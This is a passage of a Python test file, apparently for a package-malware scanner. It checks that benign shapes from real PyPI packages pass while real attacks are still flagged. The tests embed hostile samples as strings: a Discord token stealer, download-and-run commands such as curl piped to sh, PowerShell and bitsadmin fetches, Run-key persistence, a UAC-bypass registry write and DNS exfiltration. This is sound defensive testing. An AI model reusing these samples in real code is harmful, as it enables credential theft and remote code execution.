    files = {"setup.py": setup, "helperlib/__init__.py": "", "helperlib/utils/analyzer.py": beacon}
    result, findings = verdict(sdist("helperlib", "0.1", files))
    assert result == "malicious" and "package.install-beacon:critical" in findings, findings
    files["setup.py"] = _SETUP
    assert verdict(sdist("helperlib", "0.1", files))[0] != "malicious"


def test_in_tree_build_backend_runs_only_what_it_reaches() -> None:
    """setuptools and poetry-core build themselves (``backend-path``): every file of theirs counted as install
    code, so a vendored urlopen and a getuser() elsewhere made an install beacon. What pip runs is the
    backend module and the code it reaches."""
    pyproject = ('[build-system]\nrequires = []\nbuild-backend = "mybuild.api"\nbackend-path = ["src"]\n'
                 '[project]\nname = "mybuild"\nversion = "1.0"\n')
    api = "from mybuild import core\n\ndef build_wheel(d, settings=None, meta=None):\n    return core.make(d)\n"
    core = "import os\n\ndef make(d):\n    return os.path.join(d, 'x.whl')\n"
    vendored = ("import getpass, urllib.request\n\ndef fetch(u):\n    return urllib.request.urlopen(u).read()\n\n"
                "def cache_name():\n    return getpass.getuser() + '.cache'\n")
    files = {"pyproject.toml": pyproject, "src/mybuild/__init__.py": "", "src/mybuild/api.py": api,
             "src/mybuild/core.py": core, "src/mybuild/_vendor/fetcher.py": vendored}
    result, findings = verdict(sdist("mybuild", "1.0", files))
    assert result == "clean", findings
    files["src/mybuild/core.py"] = "import getpass, urllib.request\n\ndef make(d):\n" \
        "    return urllib.request.urlopen('https://x.example.net/?u=' + getpass.getuser()).read()\n"
    assert "package.install-beacon:critical" in verdict(sdist("mybuild", "1.0", files))[1]


def test_setup_py_reading_its_version_line_and_an_sdist_with_a_package_json() -> None:
    """influxdb-client execs the VERSION line of version.py read through ``with open(...) as f``; daff ships
    a package.json for its JS port beside PKG-INFO and was judged as an npm package (a typosquat of npm's
    'diff')."""
    setup = ("from setuptools import setup\nmeta = {}\nwith open('helperlib/version.py') as f:\n"
             "    exec('\\n'.join(line for line in f if line.startswith('VERSION')), meta)\n"
             "setup(name='helperlib', version=meta['VERSION'])\n")
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup,
                                                          "helperlib/version.py": "VERSION = '0.1'\n"}))
    assert result == "clean", findings
    data = sdist("daff", "1.4.2", {"setup.py": _SETUP, "daff.py": "def diff(a, b):\n    return []\n",
                                   "package.json": '{"name": "daff", "version": "1.4.2"}', "daff.js": "var x=1;\n"})
    assert facts_of(data).ecosystem == "pypi-sdist" and verdict(data)[0] == "clean"


def test_pages_opened_in_a_browser_and_commands_in_help_text() -> None:
    """webbrowser.open(url) after a health check (langgraph-api) is not fetch-and-run; ``curl ... | bash`` in a
    help template (huggingface-hub) is an instruction; a CGI server passes request data in the environment
    of os.execve, not as the command (future)."""
    browser = ("import urllib.request, webbrowser\n\ndef _open(url):\n    urllib.request.urlopen(url + '/ok')\n"
               "    webbrowser.open(url)\n\n_open('http://127.0.0.1:2024')\n")
    template = ('HELP = f"""\n# Install\n\nRun the installer. It sets up the CLI.\n\n```\n'
                'curl -LsSf https://hf.co/cli/install.sh | bash\n```\n\nThen log in. Done.\n"""\n')
    cgi = ("import os, base64\n\ndef run_cgi(script, auth, query):\n    env = dict(os.environ)\n"
           "    env['REMOTE_USER'] = base64.decodebytes(auth).decode()\n    os.execve(script, [script, query], env)\n")
    for code in (browser, template, cgi):
        result, findings = verdict(_lib(code))
        assert result == "clean", (code, findings)


def test_second_held_out_batch_shapes_stay_clean() -> None:
    """Shapes behind the false positives of the second held-out batch (250 PyPI packages): marimo's Rick-roll
    video ID in _smoke_tests (the Discord token prefix is the ID with a colon), mccabe's eval of its
    version line, azure-devops' downloadFileName parameter, bzt's bitsadmin command for a remote machine,
    pyarmor's own bootstrap template."""
    cases = {
        "helperlib/_smoke_tests/video.py": "import requests\nyt = YouTubeVideo('dQw4w9WgXcQ')\n"
                                           "requests.get('https://www.youtube.com/embed/dQw4w9WgXcQ')\n",
        "helperlib/client.py": "def query(p):\n    p['downloadFileName'] = 'x'\n    return p\n",
        "helperlib/remote.py": "def fetch_jars(host):\n    return host.run('bitsadmin /transfer junit "
                               "https://repo1.maven.org/junit.jar C:\\\\junit.jar')\n",
        "helperlib/context.py": "bootstrap_template = '''# Pyarmor $rev\nfrom $package import __pyarmor__\n"
                                "__pyarmor__(__name__, $path, $code)\n'''\n",
    }
    setup = ("from setuptools import setup\n\ndef get_version(f='helperlib/__init__.py'):\n"
             "    for line in open(f):\n        if line.startswith('__version__'):\n"
             "            return eval(line.split('=')[-1])\n\nsetup(name='helperlib', version=get_version())\n")
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py":
                                                          "__version__ = '0.1'\n", **cases}))
    assert result == "clean", findings


def test_what_still_counts_after_the_second_batch() -> None:
    """The narrowed patterns keep the real shapes: the token-blob regex of a Discord stealer, a PowerShell
    DownloadFile, an obfuscated PyArmor module, bitsadmin at import."""
    stealer = ("import os, re, requests\n"
               "for f in os.listdir(os.getenv('APPDATA') + '/discord/Local Storage/leveldb'):\n"
               "    for t in re.findall(r'dQw4w9WgXcQ:[^\"]*', open(f).read()):\n"
               "        requests.post('https://x.example.net/t', data=t)\n")
    assert "package.stealer:critical" in verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP,
                                                                          "helperlib/__init__.py": stealer}))[1]
    ps = "import os\nos.system('powershell (New-Object Net.WebClient).DownloadFile(\"http://1.2.3.4/a\", \"a.exe\")')\n"
    assert verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP + ps}))[0] == "malicious"
    armored = "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')\n"
    assert "package.obfuscated-code:high" in verdict(sdist("helperlib", "0.1", {
        "setup.py": _SETUP, "helperlib/__init__.py": armored}))[1]
    bits = "import os\nos.system('bitsadmin /transfer j http://45.61.136.12/a.exe C:\\\\a.exe')\n"
    assert verdict(_lib(bits))[0] != "clean"


def test_maintainer_branches_of_setup_py_do_not_run_at_install() -> None:
    """telethon's setup.py checks its docs site and runs twine under ``argv[1] == 'pypi'``: pip never passes
    that command. A branch on a command pip does run (install) still runs at install; stale __pycache__
    bytecode without its source (dj-rest-auth) never runs at all."""
    publish = ("import sys, os, urllib.request\nfrom setuptools import setup\n\ndef main(argv):\n"
               "    if len(argv) >= 2 and argv[1] == 'pypi':\n"
               "        urllib.request.urlopen('https://docs.example.org/').read()\n"
               "        os.system('python3 setup.py sdist')\n        os.system('twine upload dist/*')\n"
               "        return\n    setup(name='helperlib', version='0.1')\n\nmain(sys.argv)\n")
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": publish}))
    assert result == "clean", findings
    evil = publish.replace("argv[1] == 'pypi'", "argv[1] == 'install'")
    assert verdict(sdist("helperlib", "0.1", {"setup.py": evil}))[0] != "clean"
    stale = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "",
                                        "helperlib/passkeys/__pycache__/views.cpython-312.pyc": _pyc("X = 1\n")})
    assert not [s for s in facts_of(stale).signals if s.file.endswith(".pyc")]


def test_tests_nothing_imports_get_the_text_pass() -> None:
    """Tests, docs and examples that nothing imports run only when someone runs them: their text gets the
    indicator and payload checks, without a syntax tree (a sixth of the time on large packages). A payload
    decoded and executed in a test file is still found; a test file the package imports gets the full scan."""
    payload = base64.b64encode(b"import os\nos.system('curl http://45.61.136.12/x | sh')\n").decode()
    tests = {"tests/test_net.py": "import requests\n\ndef test_get():\n    requests.get('https://example.org')\n",
             "tests/test_blob.py": f"import base64\nexec(base64.b64decode('{payload}'))\n",
             "tests/test_hook.py": "import requests\n\nHOOK = 'https://webhook.site/0a1b2c3d-1111-2222-3333-444455556666'\n"}
    facts = facts_of(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "", **tests}))
    assert facts.test_text_files == 3
    assert not [s for s in facts.signals if s.kind == "net.request"]
    # the text pass still says where: the indicator's line, not the file's line 0
    assert [(s.line, s.snippet[:4]) for s in facts.signals if s.kind == "endpoint.shady"
            and s.file == "tests/test_hook.py"] == [(3, "HOOK")]
    assert [s for s in facts.signals if s.kind == "exec.decoded" and s.file == "tests/test_blob.py"]
    imported = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "from tests import test_net\n",
                                          **tests})
    assert [s for s in facts_of(imported).signals if s.kind == "net.request" and s.file == "tests/test_net.py"]


def test_third_held_out_batch_shapes() -> None:
    """Causes behind the third held-out batch's false positives: an install instruction inside a message
    (dlt), a keyword table in a file that starts nothing (oletools), version reading through a regex or
    compile (glob2, pilkit), a test runner called only under ``'test' in sys.argv`` beside the font download
    of setup.py (reportlab), a CI script in .github/ (shfmt-py), a completion script's comment (grunt-cli)."""
    files = {
        "helperlib/req.py": "import shutil\n\ndef need_uv():\n    if not shutil.which('uv'):\n"
                            "        raise RuntimeError('`uv` is required to export dependencies but was not found. "
                            "Install it with: curl -LsSf https://astral.sh/uv/install.sh | sh')\n",
        "helperlib/keywords.py": "SUSPICIOUS = {'Invoke-Expression': 'runs code', 'DownloadString': 'downloads'}\n",
        "helperlib/pkgmeta.py": "__version__ = '3.0'\n",
        ".github/workflows/checksums.py": "import os, requests\nrequests.get('https://api.github.com/repos/x/y/releases',"
                                         " headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})\n",
        "completion/bash": "# Add this line to your ~/.bashrc: eval \"$(tool --completion=bash)\"\ncomplete -F _t t\n",
    }
    setup = ("import os, re, sys, subprocess, urllib.request\nfrom setuptools import setup\n"
             "version_re = re.compile(r'__version__ = (.*)')\nfp = open(os.path.join('helperlib', 'pkgmeta.py'))\n"
             "for line in fp:\n    match = version_re.search(line)\n    if match:\n"
             "        version = eval(match.group(1))\n"
             "pkgmeta = {}\nwith open('helperlib/pkgmeta.py') as f:\n"
             "    code = compile(f.read(), 'pkgmeta.py', 'exec')\n    exec(code, pkgmeta)\n\n"
             "def sp_call(cmd):\n    return subprocess.call([sys.executable, 'runAll.py', cmd])\n\n"
             "def get_fonts():\n    data = urllib.request.urlopen('https://www.example.org/fonts.zip').read()\n"
             "    open('src/fonts.zip', 'wb').write(data)\n\n"
             "def main():\n    if 'test' in sys.argv:\n        return sp_call('test')\n    get_fonts()\n"
             "    setup(name='helperlib', version=version)\n\nmain()\n")
    data = sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py": "", **files})
    result, findings = verdict(data)
    assert result == "clean", findings
    # the font download itself is real: reported, low (a fetch; beacons send, look up names or open sockets)
    assert "package.install-network:low" in [f"{x.rule}:{x.severity.value}" for x in judge(facts_of(data))]
    runs = ("import os\nINSTALL = 'curl -LsSf https://x.example.net/i.sh | sh'\n\n"
            "def go():\n    os.system(INSTALL)\n\ngo()\n")
    assert verdict(_lib(runs))[0] != "clean"


def test_fourth_held_out_batch_shapes() -> None:
    """Causes behind the fourth held-out batch's false positives: an Italian URL (``/guarda/``) as the
    Guarda wallet folder (yt-dlp), a decoded registry token handed to ``docker login`` as a password
    (nova-act's ECR login), version reading through a helper lambda (httpretty) or ``compile(open().read())``
    (pycuda), and a bootstrap script in a source-tree folder that is no package (dict2xml's tools/)."""
    files = {
        "helperlib/sites.py": "SITES = ['https://www.popcorntv.it/guarda/film/1']\n",
        "helperlib/ecr.py": "import base64, subprocess\n\ndef login(token, registry):\n"
                            "    user, pwd = base64.b64decode(token).decode().split(':')\n"
                            "    subprocess.run(['docker', 'login', '-u', user, '-p', pwd, registry], check=True)\n",
        "helperlib/version.py": "version = '1.1.4'\n",
        "tools/bootstrap_venv.py": "import os, sys\n"
                                   "os.system(f'{sys.executable} -m pip install venvstarter -t deps')\n",
    }
    setup = ("import io, os\nfrom setuptools import setup\n"
             "local_file = lambda *f: io.open(os.path.join(os.path.dirname(__file__), *f), encoding='utf-8').read()\n"
             "ctx = {}\nexec(local_file('helperlib', 'version.py'), ctx)\n"
             "p = 'helperlib/version.py'\nexec(compile(open(p).read(), p, 'exec'), ctx)\n"
             "setup(name='helperlib', version=ctx['version'])\n")
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py": "", **files}))
    assert result == "clean", findings
    decoded_script = ("import base64, subprocess\n\ndef go(blob):\n"
                      "    subprocess.run(['bash', '-c', base64.b64decode(blob).decode()])\n")
    facts = facts_of(_lib(decoded_script))
    assert [s for s in facts.signals if s.kind == "exec.decoded"]  # a decoded script for a shell still counts


def test_install_time_fetch_is_low_and_a_body_keeps_it_high() -> None:
    """A setup.py that fetches a release with urllib's Request (iterfzf) reports install-network low; the
    same Request given a body (its second positional argument) sends data and stays high."""
    fetch = ("from urllib.request import Request, urlopen\nfrom setuptools import setup\n"
             "r = urlopen(Request('https://api.github.com/repos/x/y/releases', headers={'Accept': 'json'}))\n"
             "setup(name='helperlib', version='0.1')\n")
    facts = facts_of(sdist("helperlib", "0.1", {"setup.py": fetch}))
    assert "package.install-network:low" in [f"{x.rule}:{x.severity.value}" for x in judge(facts)]
    send = fetch.replace("headers={'Accept': 'json'}", "b'host=' + open('/etc/hostname', 'rb').read()")
    assert "package.install-network:high" in verdict(sdist("helperlib", "0.1", {"setup.py": send}))[1]


def test_fifth_held_out_batch_python_shapes() -> None:
    """Causes behind the fifth held-out batch's PyPI false positives: a file association and a URL handler
    registered under ``Software\\Classes`` (fmpy, ida-hcli), the machine's own address looked up at import
    (stomp-py), pasting an image from the clipboard (kimi-cli: ``ImageGrab.grabclipboard`` is no
    screenshot), reading the screen and the clipboard as image sources (imageio), an installer command
    kept in a module constant that only the CLI's functions run (kimi-cli), a message that names
    ``~/.zshrc`` (deepagents-cli) and a user-run init script adding an export line to the shell profile
    (tentaclio)."""
    files = {
        "helperlib/assoc.py": (
            "import winreg\nfrom winreg import CreateKey, OpenKey, SetValueEx, HKEY_CURRENT_USER, KEY_WRITE, REG_SZ\n"
            "PROTOCOL = 'helper'\n\ndef register(target):\n"
            "    key_path = r'Software\\Classes\\helper.gui\\shell\\open\\command'\n"
            "    CreateKey(HKEY_CURRENT_USER, key_path)\n"
            "    key = OpenKey(HKEY_CURRENT_USER, key_path, 0, KEY_WRITE)\n"
            "    SetValueEx(key, '', 0, REG_SZ, target)\n"
            "    key_path = r'SOFTWARE\\Classes\\.hlp'\n    CreateKey(HKEY_CURRENT_USER, key_path)\n"
            "    reg_key = rf'SOFTWARE\\Classes\\{PROTOCOL}'\n"
            "    with winreg.CreateKey(HKEY_CURRENT_USER, rf'{reg_key}\\DefaultIcon') as key:\n"
            "        winreg.SetValueEx(key, '', 0, REG_SZ, target)\n"),
        "helperlib/net.py": "import socket\nLOCAL = [socket.gethostbyname(socket.gethostname())]\n",
        "helperlib/clip.py": ("import pyperclip\nfrom PIL import ImageGrab\n\ndef paste():\n"
                              "    return pyperclip.paste() or ImageGrab.grabclipboard()\n"),
        "helperlib/screen.py": ("import pyperclip\nfrom PIL import ImageGrab\n\ndef grab(what):\n"
                                "    return ImageGrab.grab() if what == '<screen>' else pyperclip.paste()\n"),
        "helperlib/deprecation.py": ("import subprocess\n"
                                     "_INSTALL_SH = 'curl -fsSL https://code.example.com/install.sh | bash'\n"
                                     "\ndef main():\n    subprocess.run(_INSTALL_SH, shell=True)\n"),
        "scripts/install.sh": '#!/bin/sh\nlog_warn "  source ~/.zshrc   # (or ~/.bashrc)"\n',
        "extras/init_helper.sh": ('#!/bin/bash\nprofile="$HOME/.bashrc"\n'
                                  'echo "export HELPER_FILE=$HOME/.helper.yml" >> $profile\n'),
    }
    for rel, code in files.items():
        result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "",
                                                               rel: code}))
        assert result == "clean", (rel, findings)
    # the same writes under the Run key, an own name sent to a lookup domain, a screen grab with the
    # clipboard, and the constant run at import are still reported
    bad = {
        "helperlib/assoc.py": ("import winreg, sys\nRUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
                               "def persist():\n    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, 2)\n"
                               "    winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, sys.executable)\n"),
        "helperlib/uac.py": ("import winreg\n\ndef shadow(cmd):\n"
                             "    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
                             "r'Software\\Classes\\ms-settings\\shell\\open\\command')\n"
                             "    winreg.SetValueEx(key, None, 0, winreg.REG_SZ, cmd)\n"),
        "helperlib/net.py": "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.oast.fun')\n",
        "helperlib/clip.py": ("import pyperclip, requests\nfrom PIL import ImageGrab\n\ndef spy():\n"
                              "    requests.post('https://a.example/u', data=pyperclip.paste())\n"
                              "    return ImageGrab.grab()\n"),
        "helperlib/deprecation.py": ("import subprocess\n"
                                     "_INSTALL_SH = 'curl -fsSL https://code.example.com/install.sh | bash'\n"
                                     "subprocess.run(_INSTALL_SH, shell=True)\n"),
    }
    for rel, code in bad.items():
        pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": f"from . import {rel[10:-3]}\n",
                                         rel: code})
        assert verdict(pkg)[0] != "clean", rel


def test_held_out_leftovers_data_urls_root_scripts_and_unix_sockets() -> None:
    """Three false positives left from the earlier held-out batches: a paste URL in a test fixture's data
    (softlayer) and a file-hosting site in a table of refused sites (yt-dlp), a maintainer's bootstrap
    script beside setup.py that runs pip (hashring), and a readiness probe on a local Unix socket whose
    path comes from settings (py-pglite)."""
    fixture = "SCALE_GROUP = {'postInstallScriptUri': 'https://pastebin.com/raw/62wrEKuW', 'id': 12}\n"
    probe = ("import os, socket\n\nclass Manager:\n    def __init__(self):\n"
             "        self.dir = os.environ.copy().get('PGDATA', '/tmp')\n\n    def ready(self):\n"
             "        s = socket.socket(socket.AF_UNIX)\n        s.connect(str(self.dir + '/.s.PGSQL.5432'))\n")
    bootstrap = "import subprocess\nsubprocess.check_call(['.tox/configure/bin/pip', 'install', 'jinja2', 'matrix'])\n"
    setup = ("from glob import glob\nfrom setuptools import setup, find_packages\n"
             "setup(name='helperlib', version='0.1', packages=find_packages('src'), package_dir={'': 'src'},\n"
             "      py_modules=[p[4:-3] for p in glob('src/*.py')])\n")
    cases = [{"helperlib/fixtures.py": fixture}, {"helperlib/manager.py": probe},
             {"bootstrap.py": bootstrap, "setup.py": setup, "src/helperlib/__init__.py": ""}]
    for files in cases:
        pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "from . import *\n", **files})
        result, findings = verdict(pkg)
        assert result == "clean", (files, findings)
    # the same address fetched on import, a socket address built from data, and a root module the build
    # installs are still judged
    fetched = "import urllib.request\nexec(urllib.request.urlopen('https://pastebin.com/raw/62wrEKuW').read())\n"
    sent = ("import socket, getpass\ns = socket.socket()\ns.connect((getpass.getuser() + '.x.example', 80))\n")
    named = _SETUP.replace("packages=['helperlib']", "packages=['helperlib'], py_modules=['bootstrap']")
    for files in ({"helperlib/fixtures.py": fetched}, {"helperlib/manager.py": sent},
                  {"bootstrap.py": bootstrap, "setup.py": named}):
        init = "" if "bootstrap.py" in files else "from . import fixtures, manager\n"
        pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init, **files})
        assert verdict(pkg)[0] != "clean", files


def test_sixth_held_out_batch_shapes() -> None:
    """Causes behind the sixth held-out batch's false positives: a table of example objects that compiles an
    empty string beside a socket (dill, vendored by tecton), a surname in a docstring read as an obfuscator's
    name (statsmodels cites the Ploberger-Kramer test), ``chmod -R a+rX .`` when building an sdist
    (python-stdnum), Discord's OAuth endpoints kept as class attributes of a sign-in client
    (python-fasthtml) and the proxy settings key written through ``self.KEY`` (pproxy)."""
    files = {
        "helperlib/_objects.py": ("import socket\na = {}\na['CodeType'] = compile('', '', 'exec')\n"
                                  "a['SocketType'] = socket.socket()\n"),
        "helperlib/diagnostic.py": ('def breaks_cusumolsresid(x):\n    """Not clear: Assumption 2 in Ploberger, '
                                    'Kramer assumes that exog x have mean zero."""\n    return x\n'),
        "helperlib/oauth.py": ("import httpx\n\nclass DiscordAppClient:\n"
                               "    base_url = 'https://discord.com/oauth2/authorize'\n"
                               "    token_url = 'https://discord.com/api/oauth2/token'\n"
                               "    revoke_url = 'https://discord.com/api/oauth2/token/revoke'\n"
                               "    info_url = 'https://discord.com/api/users/@me'\n\n"
                               "    def info(self, token):\n"
                               "        return httpx.get(self.info_url, headers={'Authorization': token}).json()\n"),
        "helperlib/sysproxy.py": ("class ProxySetter:\n    KEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\"
                                  "Internet Settings\\Connections'\n"
                                  "    SUBKEY = 'DefaultConnectionSettings'\n\n    def setup(self, value):\n"
                                  "        import winreg\n"
                                  "        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, self.KEY, 0, 983103)\n"
                                  "        winreg.SetValueEx(key, self.SUBKEY, None, winreg.REG_BINARY, value)\n"),
    }
    init = "from . import _objects, diagnostic, oauth, sysproxy\n"
    for rel, code in files.items():
        result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init,
                                                               rel: code}))
        assert result == "clean", (rel, findings)
    setup = ("import os, sys\nfrom setuptools import setup\nif 'sdist' in sys.argv:\n"
             "    os.system('chmod -R a+rX .')\nsetup(name='helperlib', version='0.1', packages=['helperlib'])\n")
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py": ""}))
    assert result == "clean", findings
    # a compiled string fetched beside the socket, the obfuscator named in code, chmod +x at install, a
    # Discord webhook kept as a class attribute, and the Run key through self.KEY are still reported
    bad = {
        "helperlib/_objects.py": ("import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 80))\n"
                                  "exec(compile(s.recv(4096), '', 'exec'))\n"),
        "helperlib/diagnostic.py": "from kramer import Kramer\nKramer(b'x0x1x2').run()\n",
        "helperlib/oauth.py": ("import requests\n\nclass Hook:\n"
                               "    url = 'https://discord.com/api/webhooks/981516268622475326/"
                               "rNph1h3-FVHw1k7tbTc_pBibabi1OuNBMckU5h6eGGI6wrASs6tcRymj_o7Oj6Bdcuf9'\n"),
        "helperlib/sysproxy.py": files["helperlib/sysproxy.py"].replace(
            "Internet Settings\\Connections", "Run"),
    }
    for rel, code in bad.items():
        pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init, rel: code})
        assert verdict(pkg)[0] != "clean", rel
    chmod = setup.replace("if 'sdist' in sys.argv:\n    ", "").replace("-R a+rX .", "+x helperlib/run")
    assert verdict(sdist("helperlib", "0.1", {"setup.py": chmod, "helperlib/__init__.py": ""}))[0] != "clean"


def test_seventh_held_out_batch_shapes() -> None:
    """Causes behind the seventh held-out batch's false positives: the ez_setup/distribute_setup bootstrap
    that only runs when setuptools is missing (nose), an environment handed to a child process counted as
    data in what the call returns (rapid-mlx), a decoded ECR password in a command list built before the
    call (sagemaker-serve), an unused setup.py helper that evals (peppy), ``request as urllib2`` read as a
    hiding alias (iso4217), an annotated class attribute holding a URL (pilmoji), and Python 3.12's type
    syntax, which made a file unparsable and sent it to the text fallback (mistral-vibe)."""
    bootstrap = ("import os, subprocess, urllib.request\nURL = 'https://pypi.python.org/packages/source/d/distribute/'\n"
                 "def use_setuptools():\n    data = urllib.request.urlopen(URL + 'distribute.tar.gz').read()\n"
                 "    open('distribute.tar.gz', 'wb').write(data)\n"
                 "    subprocess.call(['python', 'distribute.tar.gz'])\n")
    setup = ("try:\n    import setuptools\nexcept ImportError:\n    from distribute_setup import use_setuptools\n"
             "    use_setuptools()\nfrom setuptools import setup\n"
             "def get_static(name, condition):\n    return [i for i in filter(lambda x: eval(condition), [name])]\n"
             "setup(name='helperlib', version='0.1', packages=['helperlib'])\n")
    files = {
        "helperlib/cli.py": ("import os, subprocess, requests\n\ndef spawn():\n"
                             "    env = os.environ.copy()\n"
                             "    proc = subprocess.Popen(['server'], env=env)\n    return proc, 'http://127.0.0.1:8000'\n\n"
                             "def models():\n    proc, base_url = spawn()\n"
                             "    return requests.get(f'{base_url}/v1/models', timeout=2)\n"),
        "helperlib/ecr.py": ("import base64, subprocess\n\ndef login(token, host):\n"
                             "    username, password = base64.b64decode(token).decode().split(':')\n"
                             "    login_command = ['docker', 'login', '-u', username, '-p', password, host]\n"
                             "    subprocess.run(login_command, check=True, capture_output=True, text=True)\n"),
        "helperlib/source.py": ("from typing import ClassVar\n\nclass DiscordEmojiSource:\n"
                                "    BASE_DISCORD_EMOJI_URL: ClassVar[str] = 'https://cdn.discordapp.com/emojis/'\n\n"
                                "    def url(self, i):\n        return self.BASE_DISCORD_EMOJI_URL + str(i)\n"),
        "helperlib/sandbox.py": ("import base64, zlib\ntype RequestOption = str\n\n"
                                 "async def run[T](\n    sandbox: T,\n) -> T:\n    return sandbox\n\n"
                                 "_MATERIALIZE = '''\nimport base64, sys, zlib\n"
                                 "source = zlib.decompress(base64.urlsafe_b64decode(sys.argv[2]))\n"
                                 "exec(compile(source, 'helper', 'exec'))\n'''\n"),
    }
    sdist_files = {"setup.py": setup, "distribute_setup.py": bootstrap, "helperlib/__init__.py": ""}
    result, findings = verdict(sdist("helperlib", "0.1", sdist_files))
    assert result == "clean", findings
    alias = "from urllib import request as urllib2\nfrom setuptools import setup\nsetup(name='helperlib')\n"
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": alias, "helperlib/__init__.py": ""}))
    assert result == "clean", findings
    init = "from . import cli, ecr, source, sandbox\n"
    for rel, code in files.items():
        result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init,
                                                               rel: code}))
        assert result == "clean", (rel, findings)
    # the bootstrap called outside the fallback, a helper that setup.py calls, an alias that hides the name,
    # the environment itself sent, and 3.12 code that runs a decoded payload on import are still judged
    fallback = "except ImportError:\n    from distribute_setup import use_setuptools\n    use_setuptools()"
    called = setup.replace(fallback, "except ImportError:\n    pass\nfrom distribute_setup import use_setuptools\n"
                                     "use_setuptools()")
    assert verdict(sdist("helperlib", "0.1", {**sdist_files, "setup.py": called}))[0] != "clean"
    used = setup.replace("setup(name=", "get_static('x', __import__('base64').b64decode('MQ==').decode())\nsetup(name=")
    assert verdict(sdist("helperlib", "0.1", {**sdist_files, "setup.py": used}))[0] != "clean"
    hidden = alias.replace("from urllib import request as urllib2", "from os import system as s\ns('id')")
    assert verdict(sdist("helperlib", "0.1", {"setup.py": hidden, "helperlib/__init__.py": ""}))[0] != "clean"
    sent = files["helperlib/cli.py"].replace("timeout=2)", "data=dict(os.environ))")
    modern = ("import base64\ntype Blob = bytes\n\ndef run[T](x: T) -> T:\n    return x\n\n"
              "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzEuMi4zLjQveCB8IHNoIik='))\n")
    for rel, code in (("helperlib/cli.py", sent), ("helperlib/sandbox.py", modern)):
        pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init, rel: code})
        assert verdict(pkg)[0] != "clean", rel


def test_eighth_held_out_batch_shapes() -> None:
    """Causes behind the eighth held-out batch's false positives: six's ``exec_`` running constant code
    (raven), a version file opened in binary mode and decoded as UTF-8 (pynose), a helper's
    ``content = None`` hiding the file read that feeds exec (pipupgrade), a placeholder Slack webhook in a
    Django app's ``tests.py`` (weblate), a build script in a folder named "manual tests" (frida-tools),
    an echoed hint to run ``systemctl enable`` (jcodemunch-mcp), and a socket connected to a Unix path
    beside a program started at import (vercel-runtime)."""
    setup = ("import os\nfrom setuptools import setup\nabout = {}\n"
             "with open(os.path.join('helperlib', '__version__.py'), 'rb') as f:\n"
             "    exec(f.read().decode('utf-8'), about)\n\n"
             "def read(path):\n    content = None\n    with open(path) as f:\n        content = f.read()\n"
             "    return content\n\ndef get_info():\n    info = {}\n"
             "    with open('helperlib/__attr__.py') as f:\n        content = f.read()\n        exec(content, info)\n"
             "    return info\n\nsetup(name='helperlib', version=about['__version__'], **get_info())\n")
    files = {
        "helperlib/compat.py": ("import builtins\nexec_ = getattr(builtins, 'exec')\n"
                                "exec_('''def reraise(tp, value, tb=None):\n    raise tp.with_traceback(tb)\n''')\n"),
        "helperlib/addons/tests.py": ("WEBHOOK_URL = 'https://hooks.slack.com/services/T00000000/B00000000/"
                                      "XXXXXXXXXXXXXXXXXXXXXXXX'\n"),
        "releng/manual tests/4 standalone/build_windows_package.py": (
            "import shutil, subprocess, urllib.request\n"
            "urllib.request.urlretrieve('https://example.org/iscc.zip', 'iscc.zip')\n"
            "open('setup.iss', 'w').write('x')\n"
            "subprocess.check_call([r'\\\\Program Files\\\\Inno Setup 5\\\\ISCC.exe'])\n"),
        "packaging/build_deb.sh": 'echo "Enable the service with: sudo systemctl enable --now $PACKAGE_NAME"\n',
        "helperlib/init.py": ("import os, socket, subprocess\n"
                              "if 'IPC_PATH' in os.environ:\n    s = socket.socket(socket.AF_UNIX)\n"
                              "    s.connect(os.environ['IPC_PATH'])\n"
                              "open('pyvenv.cfg', 'w').write('home = /usr')\n"
                              "subprocess.run(['uv', 'sync', '--frozen'], check=True)\n"),
    }
    base = {"setup.py": setup, "helperlib/__init__.py": "", "helperlib/__version__.py": "__version__ = '0.1'\n",
            "helperlib/__attr__.py": "author = 'x'\n"}
    result, findings = verdict(sdist("helperlib", "0.1", base))
    assert result == "clean", findings
    for rel, code in files.items():
        result, findings = verdict(sdist("helperlib", "0.1", {**base, "helperlib/__init__.py": "from . import init\n"
                                                              if rel.endswith("init.py") else "", rel: code}))
        assert result == "clean", (rel, findings)
    # a real token, a decoded blob through the alias, a systemctl enable the script runs, and a socket
    # whose data is received beside the program are still judged
    bad = {
        "helperlib/compat.py": files["helperlib/compat.py"].replace(
